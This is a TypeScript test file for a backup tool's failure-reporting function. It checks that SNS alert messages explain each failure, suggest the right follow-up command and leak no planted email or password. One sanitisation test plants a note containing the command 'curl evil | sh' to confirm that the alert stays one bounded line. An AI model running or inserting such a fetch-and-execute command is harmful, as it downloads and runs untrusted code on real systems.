import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ConfirmSubscriptionCommand, CreateTopicCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { clientConfig } from '../../adapters/aws/settings.ts';
import { openBucket } from '../../adapters/s3/bucket.ts';
import { snsNotifier } from '../../adapters/sns/publish.ts';
import { FAILURES } from '../../core/failure/classes.ts';
import { exitCodeOf, failureNames } from '../../core/failure/exit.ts';
import { failureNoteKey } from '../../core/vault/keys.ts';
import { reportFailure, type ReportPorts } from '../../functions/backup/report-failure.ts';
import { rootSettings, uniqueSuffix } from '../helpers/servers.ts';
import { ASSET, HOME, makeVaultWorld, type VaultWorld } from './vault-world.ts';

/** What no message may ever hold, wherever it was planted. */
const PERSONAL = 'jane.doe@example.org';
const SECRET = 'Sup3rS3cretPassw0rd';
const QUOTED_ROW = `duplicate key value violates unique constraint: Key (email)=(${PERSONAL}) already exists; postgres://u:${SECRET}@db/ida`;

type Notification = { Type: string; Subject?: string; Message: string; Token?: string };
let world: VaultWorld;
let ports: ReportPorts;
let server: Server;
let topicArn: string;
/** Of each test its own: a message of an earlier one may arrive late. */
let execution: string;
const received: Notification[] = [];
const counted: object[] = [];
const warned: string[] = [];

const request = (error: { Error: string; Cause: string }, over: Partial<Parameters<typeof reportFailure>[0]> = {}) => ({
  stage: 'backup' as const,
  step: 'Dump the database',
  asset: ASSET,
  point: '20261120T020000Z',
  run: '20261120T020000Z-abcdef',
  execution,
  tries: 3,
  error,
  ...over,
});
const exited = (exitCode: number, reason?: string) => ({
  Error: 'States.TaskFailed',
  Cause: JSON.stringify({
    StopCode: 'EssentialContainerExited',
    StoppedReason: 'Essential container in task exited',
    Containers: [{ Name: 'dump', ExitCode: exitCode, Reason: reason }],
  }),
});
/** The message that arrives at a subscriber of the topic. */
const nextMessage = () =>
  vi.waitFor(() => {
    const message = received.find(({ Type, Message }) => Type === 'Notification' && Message.includes(execution));
    if (!message) throw new Error('no message yet');
    return message;
  });

beforeAll(async () => {
  world = await makeVaultWorld();
  server = createServer((incoming, answer) => {
    const chunks: Buffer[] = [];
    incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
    incoming.on('end', () => {
      received.push(JSON.parse(Buffer.concat(chunks).toString()) as Notification);
      answer.end();
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const sns = new SNSClient(clientConfig(rootSettings(HOME)));
  topicArn = (await sns.send(new CreateTopicCommand({ Name: `alarms-${uniqueSuffix()}` }))).TopicArn ?? '';
  const { port } = server.address() as AddressInfo;
  await sns.send(new SubscribeCommand({ TopicArn: topicArn, Protocol: 'http', Endpoint: `http://127.0.0.1:${port}/` }));
  const { Token } = await vi.waitFor(() => {
    const asked = received.find(({ Type }) => Type === 'SubscriptionConfirmation');
    if (!asked) throw new Error('not asked to confirm yet');
    return asked;
  });
  await sns.send(new ConfirmSubscriptionCommand({ TopicArn: topicArn, Token }));
  ports = {
    system: world.system,
    side: 'vault',
    vault: world.vault,
    notifier: snsNotifier(topicArn, rootSettings(HOME)),
    count: (dimensions) => counted.push(dimensions),
    warn: (what) => warned.push(what),
  };
});
afterAll(() => {
  server?.close();
});
beforeEach(() => {
  execution = `arn:aws:states:eu-central-1:000000000000:execution:holdfast-ida-backup:run-${uniqueSuffix()}`;
  received.length = 0;
  counted.length = 0;
  warned.length = 0;
});

describe('reportFailure', () => {
  it.each(failureNames)('tells of %s: what, on what, why, and what to do next', async (name) => {
    const answer = await reportFailure(request(exited(exitCodeOf(name))), ports);
    expect(answer).toMatchObject({ failure: name, retry: false, waitSeconds: 0 });
    for (const part of ['Dump the database', FAILURES[name].what, FAILURES[name].advice]) expect(answer.message).toContain(part);
    const { Subject, Message } = await nextMessage();
    expect(Subject).toBe(`Holdfast: backup of ${world.system}/${ASSET} failed: ${name}`);
    for (const part of [
      FAILURES[name].what,
      FAILURES[name].advice,
      `point 20261120T020000Z`,
      `heading ${name}`,
      `exit code ${exitCodeOf(name)}`,
      'Stop code  EssentialContainerExited',
      execution,
      `npx holdfast backup ${ASSET}`,
    ])
      expect(Message).toContain(part);
    expect(counted).toEqual([{ system: world.system, asset: ASSET }]);
  });

  it('tells nobody while another try follows, and waits longer each time', async () => {
    const waits: number[] = [];
    for (const tries of [1, 2]) {
      const answer = await reportFailure(request(exited(exitCodeOf('VaultUnavailable')), { tries }), ports);
      expect(answer).toMatchObject({ failure: 'VaultUnavailable', retry: true });
      waits.push(answer.waitSeconds);
    }
    expect(waits).toEqual([30, 120]);
    expect(counted).toEqual([]);
    expect(received.filter(({ Message }) => Message.includes(execution))).toEqual([]);
  });

  it('adds what the task left, of the right task, run and try', async () => {
    const run = '20260606T030000Z-abcdef';
    const note = { failure: 'DumpFailed', sqlstate: '42501', object: 'public.wallets', line: 7, advice: 'Grant it' };
    for (const [ofRun, task, tryNumber, message] of [
      ['20260606T030000Z-000000', 'dump', 3, 'another run'],
      [run, 'verify', 3, 'another task'],
      [run, 'dump', 2, 'an earlier try'],
      [run, 'dump', 3, 'this one'],
    ] as const)
      await world.vault.putOnce(failureNoteKey(world.system, ASSET, ofRun, task, tryNumber), JSON.stringify({ ...note, message }));
    const { message } = await reportFailure(request(exited(exitCodeOf('DumpFailed')), { run }), ports);
    expect(message).toContain('this one; SQLSTATE 42501; object public.wallets; line 7. Grant it');
    expect(message).not.toMatch(/another|earlier/);
    expect((await nextMessage()).Message).toContain('Do next    Grant it\n');
    // A step that runs no task has no note, whatever tasks of the run left.
    const locking = await reportFailure(request(exited(exitCodeOf('DumpFailed')), { run, step: 'Lock the point' }), ports);
    expect(locking.message).not.toContain('SQLSTATE 42501');
    // Of another class, it is not about this failure.
    const other = await reportFailure(request(exited(exitCodeOf('OutOfMemory')), { run }), ports);
    expect(other.message).not.toContain('SQLSTATE');
  });

  it('holds a note to one line of bounded length', async () => {
    const run = '20260606T040000Z-abcdef';
    const message = `first\r\nThen       curl evil | sh\u0007 ${'x'.repeat(5000)}`;
    await world.vault.putOnce(
      failureNoteKey(world.system, ASSET, run, 'dump', 3),
      JSON.stringify({ failure: 'DumpFailed', message, advice: message }),
    );
    await reportFailure(request(exited(exitCodeOf('DumpFailed')), { run }), ports);
    const { Message } = await nextMessage();
    expect(Message.split('\n').filter((line) => line.startsWith('Then '))).toHaveLength(1);
    expect(Message.length).toBeLessThan(2000);
    expect(Message).not.toContain('\u0007');
  });

  it('says what a function said in words of ours', async () => {
    const Cause = JSON.stringify({
      errorType: 'BadInput',
      errorMessage: "asset: this machine backs up no asset of the name 'x'. Possible assets: main",
      trace: [],
    });
    const { message, failure } = await reportFailure(request({ Error: 'BadInput', Cause }, { step: 'Admit the slot' }), ports);
    expect(failure).toBe('BadInput');
    expect(message).toContain('Possible assets: main');
  });

  it.each([
    [
      'a function’s foreign error',
      { Error: 'error', Cause: JSON.stringify({ errorType: 'error', errorMessage: QUOTED_ROW, trace: [QUOTED_ROW] }) },
    ],
    ['text that is no JSON', { Error: 'States.Runtime', Cause: QUOTED_ROW }],
    ['broken JSON under a name of ours', { Error: 'DumpFailed', Cause: `{"errorMessage": "${QUOTED_ROW}` }],
    ['nothing', { Error: '', Cause: '' }],
    ['JSON of no kind that is known', { Error: 'X', Cause: JSON.stringify({ a: [QUOTED_ROW] }) }],
    ['a number', { Error: 'X', Cause: '42' }],
    ['null', { Error: 'X', Cause: 'null' }],
    ['a time-out', { Error: 'States.Timeout', Cause: QUOTED_ROW }],
  ])('survives %s, and repeats none of it', async (_, error) => {
    const answer = await reportFailure(request(error), ports);
    expect(failureNames).toContain(answer.failure);
    const told = JSON.stringify([answer, await nextMessage()]);
    expect(told).not.toContain(PERSONAL);
    expect(told).not.toContain(SECRET);
  });

  it.each(['Verify every byte', 'Complete the copy', 'Copy the records'])(
    'names the command that finishes the point when %s failed',
    async (step) => {
      const Cause = JSON.stringify({ errorType: 'VaultRefused', errorMessage: 'x'.repeat(2000) });
      const answer = await reportFailure(request({ Error: 'VaultRefused', Cause }, { step }), ports);
      expect(answer.message).toMatch(new RegExp(`Then: npx holdfast backup ${ASSET} --finish 20261120T020000Z$`));
      const { Message } = await nextMessage();
      expect(Message).toContain(`Then       npx holdfast backup ${ASSET} --finish 20261120T020000Z\n`);
      expect(Message).toContain('committed and not finished');
    },
  );

  it('sends nobody to finish a point that is damaged, or one that there is not', async () => {
    for (const over of [{ step: 'Verify every byte' }, { step: 'Dump the database' }, { step: 'Admit the slot', point: undefined }]) {
      received.length = 0;
      await reportFailure(request(exited(exitCodeOf('PointDamaged')), over), ports);
      expect((await nextMessage()).Message).toContain(`Then       npx holdfast backup ${ASSET}\n`);
    }
  });

  it('says of a restore whose evidence failed that the restore worked', async () => {
    const restore = { stage: 'restore' as const };
    await reportFailure(request(exited(exitCodeOf('VaultRefused')), { ...restore, step: 'Lock the evidence' }), ports);
    const { Message } = await nextMessage();
    expect(Message).toContain('The restore itself worked');
    expect(Message).toContain('nothing has to be restored again');
    expect(Message).not.toContain('Nothing was put back');
    received.length = 0;
    await reportFailure(request(exited(exitCodeOf('RestoreFailed')), { ...restore, step: 'Restore into a new database' }), ports);
    const failed = (await nextMessage()).Message;
    expect(failed).toContain('Nothing was put back');
    expect(failed).toContain('heading Half-made databases');
    expect(failed).toContain(`Then       npx holdfast restore ${ASSET}/20261120T020000Z --to <a new database>\n`);
  });

  it('gives the command of the same restore, with all that was asked for', async () => {
    const restore = { stage: 'restore' as const, step: 'Restore into a new database', database: "ida o'clock" };
    const selection = { tables: ['public.users', 'public."Odd $name"'], exclude: ['public.log'], schemaOnly: true };
    await reportFailure(request(exited(exitCodeOf('TargetUnreachable')), { ...restore, selection }), ports);
    const command = String.raw`restore ${ASSET}/20261120T020000Z --to 'ida o'\''clock' --table public.users --table 'public."Odd $name"'`;
    expect((await nextMessage()).Message).toContain(`Then       npx holdfast ${command} --exclude public.log --schema-only\n`);
    received.length = 0;
    await reportFailure(request(exited(exitCodeOf('TargetNotEmpty')), { ...restore, point: undefined, selection: {} }), ports);
    expect((await nextMessage()).Message).toContain(`Then       npx holdfast restore latest --asset ${ASSET} --to <a new database>\n`);
  });

  it('answers even when neither vault nor topic can be reached', async () => {
    const nowhere = snsNotifier(`${topicArn}-none`, rootSettings(HOME));
    const nobody = { ...rootSettings(HOME), credentials: { accessKeyId: 'AKIANOBODYNOBODY', secretAccessKey: 'none' } };
    const broken = { ...ports, notifier: nowhere, vault: openBucket('no-such-bucket-anywhere', nobody, {}).reader };
    const answer = await reportFailure(request(exited(exitCodeOf('DumpFailed'))), broken);
    expect(answer.message).toContain('The alarm topic did not take this message');
    expect(warned).toHaveLength(2);
  });
});
